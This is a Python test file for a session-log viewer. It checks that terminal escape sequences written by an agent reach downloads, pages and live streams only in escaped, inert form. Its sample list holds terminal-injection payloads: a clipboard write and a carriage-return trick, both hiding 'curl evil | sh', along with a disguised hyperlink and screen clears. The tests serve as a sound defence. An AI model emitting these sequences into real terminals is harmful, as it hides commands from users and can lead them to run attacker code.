"""Terminal escapes an agent wrote never reach a reader's terminal: a session's stored log,
its download, its page and its live stream show every control but tab and newline as
`\\xNN` (core/terminal_text.py), across the download's chunks."""

from __future__ import annotations

import json
import re

import pytest
from ballet.core.terminal_text import visible_controls
from watch_kit import Site, finish_session, finished_log, lines, new_ticket

pytestmark = pytest.mark.anyio

SESSIONS = "/tickets/acme/open/1/sessions"
# ESC, BEL and the C1 controls as UTF-8 (U+0080–U+009F are C2 80–C2 9F), DEL, lone CR.
ACTS = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]")

HOSTILE = [
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07copied",  # OSC 52: write the clipboard
    "\x1b[2J\x1b[Hscreen cleared",  # clear the screen
    "\x1b]8;;https://evil.example\x1b\\the docs\x1b]8;;\x1b\\",  # OSC 8: a disguised link
    "curl evil | sh\rmake test",  # a lone CR hides the line's start
    "\u009b31m C1 CSI \u009d0;title\u009c",
    "naïve ✓ 日本 🎉\ttab",
]


async def ticket(site: Site) -> tuple[str, str]:
    """A public ticket: its finished implement session and its running review's job keys."""
    await site.create_repo("acme", "open", private=False, collaborators={})
    record = await new_ticket(site, "acme/open", 1, "Escapes")
    implement = record.open_run
    assert implement is not None and implement.job_key is not None
    record = await finish_session(site, record, "done", "implemented")
    review = record.open_run
    assert review is not None and review.job_key is not None
    return implement.job_key, review.job_key


def assert_inert(body: bytes) -> None:
    assert not ACTS.search(body.replace(b"\r\n", b"\n")), ACTS.findall(body)[:5]
    text = body.decode()
    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07copied" in text
    assert "\\x1b[2J\\x1b[Hscreen cleared" in text
    assert "\\x1b]8;;https://evil.example\\x1b\\the docs" in text
    assert "curl evil | sh\\x0dmake test" in text
    assert "\\x9b31m C1 CSI \\x9d0;title\\x9c" in text
    assert "naïve ✓ 日本 🎉\ttab" in text


async def test_a_finished_logs_download_carries_no_control_and_shows_each(site: Site) -> None:
    finished, _ = await ticket(site)
    # Past the download's 64 KiB chunks, escapes and multi-byte characters on every
    # boundary the store and the gzip stream happen to cut at.
    filler = ["\x1b[1m✓\x07é🎉\x9b" * 40 + f" {i}" for i in range(1200)]
    await finished_log(site, finished, HOSTILE + filler)
    async with site.browser() as browser:
        download = await browser.get(f"{SESSIONS}/implement/1/1/log.txt")
        page = await browser.get(f"{SESSIONS}/implement/1/1")
    assert download.status_code == 200 and len(download.content) > 4 * 64 * 1024
    assert_inert(download.content)
    whole = "".join(f"{text}\n" for text in HOSTILE + filler)
    assert download.text == visible_controls(whole)
    # The page shows the same lines (HTML-escaped), with no control either.
    assert page.status_code == 200
    assert not ACTS.search(page.content)
    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07copied" in page.text


async def test_a_running_sessions_download_page_and_live_stream_carry_none(site: Site) -> None:
    _, running = await ticket(site)
    await site.logs.append(running, lines(HOSTILE))
    async with site.browser() as browser:
        download = await browser.get(f"{SESSIONS}/review/1/1/log.txt")
        page = await browser.get(f"{SESSIONS}/review/1/1")
        async with browser.stream("GET", f"{SESSIONS}/review/1/1/live?after=0-0") as live:
            data = ""
            async for line in live.aiter_lines():
                if line.startswith("data: ["):
                    data = line.removeprefix("data: ")
                    break
    assert download.status_code == 200
    assert_inert(download.content)
    assert page.status_code == 200 and not ACTS.search(page.content)
    sent = "\n".join(str(line["text"]) for line in json.loads(data)) + "\n"
    assert_inert(sent.encode())
